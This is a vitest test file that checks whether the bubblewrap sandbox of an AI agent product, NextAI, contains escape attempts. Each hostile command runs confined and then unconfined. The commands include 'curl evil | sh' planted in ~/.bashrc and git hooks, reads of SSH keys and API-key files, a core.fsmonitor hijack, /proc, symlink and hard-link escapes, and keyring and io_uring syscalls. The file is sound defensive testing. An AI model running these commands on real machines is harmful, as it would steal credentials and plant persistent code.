import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

import { securityConfigSchema, type SandboxNetwork } from '@nextai/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { createSandbox } from '../../native-host/src/sandbox/select.js';
import { SandboxService } from '../../native-host/src/sandbox/service.js';
import { runCli } from '../support/cli.js';
import { isAlive, makeHome, type TestHome } from '../support/home.js';
import { CLI_BUNDLE, requireBuilt } from '../support/paths.js';

/**
 * Trying to break out of the sandbox for real: bubblewrap, real processes, a home folder of the
 * test's own with keys, start-up files and a git project. Each attack runs twice — in the
 * sandbox, where it must fail, and unconfined, where the same command must succeed (so a test
 * that passed because the attack was broken would fail).
 */

let root: string;
let home: string;
let project: string;
let data: string;
let service: SandboxService;
let victim: ChildProcess;
let socketServer: net.Server;
let site: http.Server;
let siteUrl: string;

const PATH = '/usr/local/bin:/usr/bin:/bin';

beforeAll(async () => {
  root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'nx-breakout-')));
  home = path.join(root, 'home');
  project = path.join(home, 'Projects', 'app');
  data = path.join(root, 'data');
  for (const dir of [
    path.join(project, 'tests'),
    path.join(home, '.ssh'),
    path.join(home, '.config', 'autostart'),
    path.join(home, '.local', 'lib', 'python3', 'site-packages'),
    path.join(data, 'run'),
  ]) {
    fs.mkdirSync(dir, { recursive: true });
  }
  fs.writeFileSync(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE-KEY-SECRET\n');
  fs.writeFileSync(path.join(home, '.bashrc'), '# mine\n');
  fs.writeFileSync(path.join(home, 'notes.txt'), 'mine\n');
  fs.writeFileSync(path.join(data, 'config.json'), '{"model":{"api_key":"sk-ant-SECRET"}}\n');
  // A project: package.json with a test, a pytest test, a git repository with one commit.
  fs.writeFileSync(
    path.join(project, 'package.json'),
    JSON.stringify({ name: 'app', version: '1.0.0', scripts: { test: 'node --test tests/' } }),
  );
  fs.writeFileSync(
    path.join(project, 'tests', 'add.test.js'),
    "const { test } = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.equal(1 + 1, 2));\n",
  );
  fs.writeFileSync(path.join(project, 'tests', 'test_add.py'), 'def test_add():\n    assert 1 + 1 == 2\n');
  git(['init', '-q', project]);
  git(['-C', project, 'add', '-A']);
  git(['-C', project, 'commit', '-qm', 'first']);
  // A symlink a hostile page could have made the agent plant earlier, pointing out of the project.
  fs.symlinkSync(home, path.join(home, 'Projects', 'link-to-home'));

  service = new SandboxService({
    sandbox: createSandbox('linux'),
    platform: 'linux',
    homeDir: home,
    security: () => securityConfigSchema.parse({}),
    own: [data],
  });
  expect(service.status(), 'bubblewrap must work here (scripts/install-system-deps.sh installs it)').toMatchObject({
    available: true,
  });
  victim = spawn('sleep', ['600'], { stdio: 'ignore' });
  socketServer = net.createServer((socket) => {
    socket.on('error', () => undefined); // A client that left before the answer.
    socket.end('daemon\n');
  });
  await new Promise<void>((resolve) => socketServer.listen(path.join(data, 'run', 'daemon.sock'), resolve));
  site = http.createServer((_request, response) => response.end('hello from an allowed site\n'));
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  siteUrl = `http://127.0.0.1:${(site.address() as net.AddressInfo).port}/`;
}, 30_000);

afterAll(async () => {
  victim?.kill('SIGKILL');
  await new Promise((resolve) => socketServer?.close(resolve));
  await new Promise((resolve) => site?.close(resolve));
  if (root) fs.rmSync(root, { recursive: true, force: true });
});

function git(args: string[]): void {
  const result = spawnSync('git', args, {
    env: {
      PATH,
      HOME: home,
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@x',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@x',
    },
    encoding: 'utf8',
  });
  expect(result.status, result.stderr).toBe(0);
}

interface Ran {
  status: number | null;
  stdout: string;
  stderr: string;
}

const environment = () => ({
  PATH,
  HOME: home,
  LANG: 'C.UTF-8',
  GIT_AUTHOR_NAME: 'Agent',
  GIT_AUTHOR_EMAIL: 'agent@example.com',
  GIT_COMMITTER_NAME: 'Agent',
  GIT_COMMITTER_EMAIL: 'agent@example.com',
});

/** Runs a program and collects its output without blocking the test's own servers. */
function collect(file: string, args: string[], options: { env: NodeJS.ProcessEnv; cwd?: string }): Promise<Ran> {
  return new Promise((resolve, reject) => {
    const child = spawn(file, args, { ...options, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 30_000);
    child.once('error', reject);
    child.once('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}

/** `bash -c command` in the sandbox, as a command of the agent's would run. */
function confined(command: string, network: SandboxNetwork = 'none'): Promise<Ran> {
  const tmpDir = fs.mkdtempSync(path.join(root, 'tmp-'));
  const profile = service.profile({ network, tmpDir, cwd: project });
  const prepared = service.prepare(['/bin/bash', '-c', command], profile, environment());
  return collect(prepared.file, prepared.args, { env: prepared.env });
}

/** The same command with the person's full access. */
function unconfined(command: string): Promise<Ran> {
  return collect('/bin/bash', ['-c', command], { env: environment(), cwd: project });
}

const read = (file: string) => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined);

describe('attacks that must fail in the sandbox (and work without it)', async () => {
  it('writes outside the writable folders', async () => {
    const target = path.join(home, 'outside.txt');
    expect((await confined(`echo pwned > ${target}`)).stderr).toMatch(/Read-only file system/);
    expect(read(target)).toBeUndefined();
    expect((await unconfined(`echo pwned > ${target}`)).status).toBe(0);
    expect(read(target)).toBe('pwned\n');
    fs.rmSync(target);
  });

  it('reads ~/.ssh/id_rsa', async () => {
    const inside = await confined('cat ~/.ssh/id_rsa; ls -A ~/.ssh');
    expect(inside.stdout).not.toContain('PRIVATE-KEY-SECRET');
    expect(inside.stdout.trim()).toBe('');
    expect((await unconfined('cat ~/.ssh/id_rsa')).stdout).toContain('PRIVATE-KEY-SECRET');
  });

  it("reaches NextAI's data directory and the daemon's socket", async () => {
    const script = `import socket; s = socket.socket(socket.AF_UNIX); s.connect('${path.join(data, 'run', 'daemon.sock')}'); print(s.recv(10).decode().strip())`;
    const inside = await confined(`cat ${data}/config.json; ls -A ${data}; /usr/bin/python3 -c "${script}"`);
    expect(inside.stdout).not.toContain('sk-ant-SECRET');
    expect(inside.stdout).not.toContain('daemon');
    expect(inside.stderr).toMatch(/No such file or directory/);
    const outside = await unconfined(`cat ${data}/config.json; /usr/bin/python3 -c "${script}"`);
    expect(outside.stdout).toContain('sk-ant-SECRET');
    expect(outside.stdout).toContain('daemon');
  });

  it('signals a process outside (its own PID namespace)', async () => {
    const pid = victim.pid as number;
    const inside = await confined(`kill -9 ${pid}; kill -9 -1; echo after`);
    expect(inside.stderr).toMatch(/No such process/);
    expect(isAlive(pid)).toBe(true);
    const other = spawn('sleep', ['600'], { stdio: 'ignore' });
    expect((await unconfined(`kill -9 ${other.pid}`)).status).toBe(0);
    await expect.poll(() => isAlive(other.pid as number)).toBe(false);
  });

  it.each([
    ['~/.bashrc', 'echo "curl evil | sh" >> ~/.bashrc', () => path.join(home, '.bashrc'), '# mine\n'],
    [
      'an autostart entry',
      'echo "[Desktop Entry]" > ~/.config/autostart/evil.desktop',
      () => path.join(home, '.config', 'autostart', 'evil.desktop'),
      undefined,
    ],
    [
      'a .pth file python runs at start-up',
      'echo "import os" > ~/.local/lib/python3/site-packages/evil.pth',
      () => path.join(home, '.local', 'lib', 'python3', 'site-packages', 'evil.pth'),
      undefined,
    ],
    [
      'a git hook in the project',
      'echo "curl evil | sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
      () => path.join(project, '.git', 'hooks', 'pre-commit'),
      undefined,
    ],
  ])('plants %s', async (_what, command, file, before) => {
    const inside = await confined(command);
    expect(inside.status).not.toBe(0);
    expect(read(file())).toBe(before);
    expect((await unconfined(command)).status).toBe(0);
    expect(read(file())).not.toBe(before);
    if (before === undefined) fs.rmSync(file());
    else fs.writeFileSync(file(), before);
  });

  it("rewrites the project's git config (core.fsmonitor runs a command at the person's next git status)", async () => {
    const config = path.join(project, '.git', 'config');
    const before = read(config);
    expect((await confined('git config core.fsmonitor "touch /tmp/owned"')).status).not.toBe(0);
    expect(read(config)).toBe(before);
    expect((await unconfined('git config core.fsmonitor "true"')).status).toBe(0);
    expect(read(config)).toContain('fsmonitor');
    fs.writeFileSync(config, before as string);
  });

  it('moves .git aside and plants a new one', async () => {
    const inside = await confined('mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit');
    expect(inside.stderr).toMatch(/Device or resource busy/);
    expect(fs.existsSync(path.join(project, '.git-old'))).toBe(false);
    // Without the sandbox the same swap works (on a copy, so the project stays intact).
    const copy = path.join(root, 'copy');
    fs.cpSync(project, copy, { recursive: true });
    expect((await unconfined(`cd ${copy} && mv .git .git-old && mkdir -p .git/hooks`)).status).toBe(0);
    expect(fs.existsSync(path.join(copy, '.git-old'))).toBe(true);
  });

  it('follows a symlink planted inside the writable folders to the outside', async () => {
    const planted = path.join(home, 'via-planted.txt');
    const made = path.join(home, 'via-made.txt');
    const inside = await confined(
      `echo x > ~/Projects/link-to-home/via-planted.txt; ln -s ~ ~/Projects/link2 && echo x > ~/Projects/link2/via-made.txt`,
    );
    expect(inside.stderr).toMatch(/Read-only file system/);
    expect(read(planted)).toBeUndefined();
    expect(read(made)).toBeUndefined();
    fs.rmSync(path.join(home, 'Projects', 'link2'), { force: true });
    expect((await unconfined('echo x > ~/Projects/link-to-home/via-planted.txt')).status).toBe(0);
    expect(read(planted)).toBe('x\n');
    fs.rmSync(planted);
  });

  it("reaches the host's file system through /proc/<pid>/root", async () => {
    const target = path.join(home, 'via-proc.txt');
    const pid = victim.pid as number;
    expect((await confined(`echo x > /proc/${pid}/root${target}`)).stderr).toMatch(/No such file or directory/);
    expect((await confined(`echo x > /proc/1/root${target}`)).stderr).toMatch(/Read-only file system/);
    expect((await confined(`cat /proc/1/root${home}/.ssh/id_rsa`)).stdout).toBe('');
    expect(read(target)).toBeUndefined();
    expect((await unconfined(`echo x > /proc/${pid}/root${target}`)).status).toBe(0);
    expect(read(target)).toBe('x\n');
    fs.rmSync(target);
  });

  it('changes a file outside through a hard link made inside', async () => {
    const notes = path.join(home, 'notes.txt');
    const inside = await confined(`ln ${notes} ~/Projects/hard; echo pwned >> ~/Projects/hard`);
    expect(inside.stderr).toMatch(/Invalid cross-device link|Operation not permitted|Read-only file system/);
    expect(read(notes)).toBe('mine\n');
    fs.rmSync(path.join(home, 'Projects', 'hard'), { force: true });
    expect((await unconfined(`ln ${notes} ~/Projects/hard && echo pwned >> ~/Projects/hard`)).status).toBe(0);
    expect(read(notes)).toBe('mine\npwned\n');
    fs.writeFileSync(notes, 'mine\n');
    fs.rmSync(path.join(home, 'Projects', 'hard'));
  });

  it("types into the person's windows through an abstract Unix socket (the X server's), with the network on", async () => {
    // Abstract sockets belong to the network namespace: a command with the network shares it.
    // The X server listens on one (@/tmp/.X11-unix/X0): a program reaching it can type anywhere.
    const name = `nx-breakout-${process.pid}`;
    const server = spawn(
      '/usr/bin/python3',
      [
        '-c',
        `import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind(b'\\0${name}')\ns.listen(4)\nprint('ready', flush=True)\nwhile True:\n    c, _ = s.accept()\n    c.sendall(b'x-server\\n')\n    c.close()`,
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      await new Promise<void>((resolve) => server.stdout?.once('data', () => resolve()));
      const script = `import socket; s = socket.socket(socket.AF_UNIX); s.connect(b'\\0${name}'); print(s.recv(20).decode().strip())`;
      const inside = await confined(`/usr/bin/python3 -c "${script}"`, 'full');
      expect(inside.stdout).not.toContain('x-server');
      expect(inside.stderr).toMatch(/Permission denied/);
      expect((await unconfined(`/usr/bin/python3 -c "${script}"`)).stdout).toContain('x-server');
    } finally {
      server.kill('SIGKILL');
    }
  });

  it("reads the user's kernel keyring, shared by all of the person's processes", async () => {
    // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, create): the user's keyring id.
    const script =
      "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.syscall(250, 0, -4, 1); print('keyring', r, os.strerror(ctypes.get_errno()))";
    const inside = await confined(`/usr/bin/python3 -c "${script}"`);
    expect(inside.stdout).toMatch(/^keyring -1 Operation not permitted/);
    expect((await unconfined(`/usr/bin/python3 -c "${script}"`)).stdout).toMatch(/^keyring \d+ /);
  });

  it('makes sockets through io_uring, past the filter on socket(2)', async () => {
    // io_uring_setup(4, params): the way to io_uring's own socket and connect operations.
    const script =
      "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); p = (ctypes.c_char * 120)(); r = libc.syscall(425, 4, p); print('uring', r, os.strerror(ctypes.get_errno()))";
    const inside = await confined(`/usr/bin/python3 -c "${script}"`, 'full');
    expect(inside.stdout).toMatch(/^uring -1 Operation not permitted/);
    expect((await unconfined(`/usr/bin/python3 -c "${script}"`)).stdout).toMatch(/^uring \d+ /);
  });

  it('raises privileges or gets capabilities back', async () => {
    const inside = await confined(
      'grep CapEff /proc/self/status; unshare -U true && echo nested; mount -t tmpfs none /mnt',
    );
    expect(inside.stdout).toMatch(/CapEff:\s+0000000000000000/);
    expect(inside.stdout).not.toContain('nested');
    expect(inside.status).not.toBe(0);
  });
});

describe('what the sandbox keeps usable', async () => {
  it('npm test, git commit and python3 -m pytest in a project under ~/Projects', async () => {
    const npm = await confined('npm test 2>&1');
    expect(npm.status, npm.stdout).toBe(0);
    expect(npm.stdout).toMatch(/pass 1/);
    fs.writeFileSync(path.join(project, 'README.md'), '# app\n');
    const commit = await confined('git add README.md && git commit -qm "Add a README" && git log --oneline | head -1');
    expect(commit.status, commit.stderr).toBe(0);
    expect(commit.stdout).toContain('Add a README');
    const pytest = await confined('/usr/bin/python3 -m pytest -q -p no:cacheprovider tests 2>&1');
    expect(pytest.status, pytest.stdout).toBe(0);
    expect(pytest.stdout).toMatch(/1 passed/);
  });

  it('curl of an allowed site with the network; no connection without it', async () => {
    const online = await confined(`curl -sS ${siteUrl}`, 'full');
    expect(online.stdout).toBe('hello from an allowed site\n');
    const offline = await confined(`curl -sS --max-time 5 ${siteUrl}`, 'none');
    expect(offline.status).not.toBe(0);
    expect(offline.stdout).toBe('');
  });

  it('a private /tmp: writable, empty at first, not the computer’s', async () => {
    fs.writeFileSync(path.join(os.tmpdir(), 'nx-breakout-host-file'), 'host\n');
    try {
      const inside = await confined('echo mine > /tmp/nx-breakout-scratch && cat /tmp/nx-breakout-scratch; ls /tmp');
      expect(inside.stdout).toContain('mine');
      expect(inside.stdout).not.toContain('nx-breakout-host-file');
      expect(fs.existsSync(path.join(os.tmpdir(), 'nx-breakout-scratch'))).toBe(false);
    } finally {
      fs.rmSync(path.join(os.tmpdir(), 'nx-breakout-host-file'));
    }
  });
});

describe('through the daemon, as the agent runs commands', async () => {
  let nx: TestHome;
  beforeAll(() => requireBuilt(CLI_BUNDLE));
  afterAll(async () => nx?.cleanup());

  it('code NextAI cannot check runs confined without asking, and its escape fails', async () => {
    nx = makeHome();
    fs.writeFileSync(
      path.join(nx.dir, 'config.json'),
      JSON.stringify({ security: { allowed_directories: [path.join(home, 'Projects')] } }),
      { mode: 0o600 },
    );
    const env = { ...nx.env, HOME: home };
    const command = `/usr/bin/python3 -c "open('${path.join(home, '.bashrc')}', 'a').write('evil')"; echo exit=$?`;
    const explained = await runCli(['policy', 'explain', 'bash_execute', JSON.stringify({ command }), '--json'], env);
    expect(JSON.parse(explained.stdout)).toMatchObject({
      decision: 'auto_approve',
      layer: 'sandbox',
      sandboxed: true,
      sandbox: { mechanism: 'bubblewrap', network: 'none', writable: [path.join(home, 'Projects')] },
    });
    const ran = await runCli(['tool', 'bash_execute', JSON.stringify({ command }), '--json'], env);
    expect(ran.code, ran.stderr).toBe(0);
    const { output } = JSON.parse(ran.stdout) as { output: { stdout: string; stderr: string; sandbox: string } };
    expect(output.sandbox).toBe('confined');
    expect(output.stderr).toMatch(/Read-only file system/);
    expect(output.stdout).toContain('exit=1');
    expect(read(path.join(home, '.bashrc'))).toBe('# mine\n');
    // The audit row records where it ran.
    const audit = JSON.parse((await runCli(['audit', 'list', '--json'], env)).stdout) as {
      kind: string;
      entry: { tool?: string; details?: { sandbox?: { sandboxed: boolean; network: string } } };
    }[];
    const decision = audit.find((row) => row.kind === 'decision' && row.entry.tool === 'bash_execute');
    expect(decision?.entry.details?.sandbox).toMatchObject({ sandboxed: true, network: 'none' });
  });

  it('a .git/commondir made in the sandbox (it would make the person’s git run another config) is moved aside', async () => {
    const env = { ...nx.env, HOME: home };
    const evil = path.join(home, 'Projects', 'evil-git');
    const command = `mkdir -p ${evil}/hooks && printf '../../evil-git' > ${project}/.git/commondir; echo planted`;
    const ran = await runCli(['tool', 'bash_execute', JSON.stringify({ command }), '--json'], env);
    expect(ran.code, ran.stderr).toBe(0);
    const { output } = JSON.parse(ran.stdout) as { output: { stdout: string; notices?: string[]; sandbox: string } };
    expect(output).toMatchObject({ stdout: 'planted\n', sandbox: 'confined' });
    expect(fs.existsSync(path.join(project, '.git', 'commondir'))).toBe(false);
    expect(output.notices?.join('\n')).toMatch(/NextAI moved .*\.git\/commondir into .*nextai-quarantine/);
    expect(fs.readdirSync(path.join(project, '.git', 'nextai-quarantine'))).toEqual([
      expect.stringMatching(/-commondir$/),
    ]);
    // git in the project still reads its own config.
    expect(spawnSync('git', ['-C', project, 'status', '--short'], { env: { PATH, HOME: home } }).status).toBe(0);
  });
});
